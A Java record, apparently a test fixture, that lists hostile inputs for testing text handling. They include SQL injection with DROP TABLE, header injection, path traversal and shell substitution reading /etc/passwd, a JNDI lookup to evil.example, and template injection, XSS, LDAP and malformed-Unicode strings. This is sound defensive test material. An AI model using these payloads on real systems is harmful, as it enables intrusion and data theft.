package org.mingjing.exchange;

import java.util.List;

/**
 * What attackers put where a text is expected.
 *
 * @param readable whether it is text that a person could have meant: no control characters, no lone
 *     surrogates, nothing that turns the direction of what follows
 */
record Hostile(String name, String text, boolean readable) {
  private static final int HUGE = 100 * 1024;

  static final List<Hostile> ALL =
      List.of(
          new Hostile("SQL", "x' OR '1'='1'; DROP TABLE entry; --", true),
          new Hostile("header", "x\r\nX-Injected: yes\r\n\r\n", false),
          new Hostile("path", "../../../../etc/passwd", true),
          new Hostile("URL", "http://evil.example/?a=b&c=d#e", true),
          new Hostile("lookup", "${jndi:ldap://evil.example/a}", true),
          new Hostile("template", "#{7*7}{{7*7}}<%= 7*7 %>${body.class}", true),
          new Hostile("Camel", "${bean:exit}$simple{sysenv.PATH}", true),
          new Hostile("HTML", "<script>alert('mingjing')</script>", true),
          new Hostile("shell", "`id`;$(id)|cat /etc/passwd", true),
          new Hostile("LDAP", "*)(uid=*))(|(uid=*", true),
          new Hostile("NUL", "evil\u0000name", false),
          new Hostile("escape", "evil\u001b[2Jname", false),
          new Hostile("bidi", "evil\u202etxt", false),
          new Hostile("line separator", "evil\u2028line", false),
          new Hostile("unpaired surrogate", "evil\ud800", false),
          new Hostile("noncharacter", "evil\uffff", false),
          new Hostile("huge", "evil".repeat(HUGE / 4), false));

  boolean huge() {
    return text.length() >= HUGE;
  }

  /** A piece of it that would be recognised wherever it comes out again. */
  String mark() {
    return text.substring(0, Math.min(text.length(), text.startsWith("evil") ? 4 : 12));
  }

  @Override
  public String toString() {
    return name;
  }
}
